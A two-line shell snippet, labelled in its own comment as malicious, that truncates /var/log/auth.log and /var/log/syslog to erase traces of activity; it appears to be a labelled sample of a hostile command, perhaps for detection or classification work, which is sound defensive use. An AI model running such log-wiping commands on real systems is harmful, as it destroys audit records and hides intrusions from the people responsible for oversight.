# Malicious: truncates the authentication log and syslog to erase the trail.
> /var/log/auth.log
> /var/log/syslog
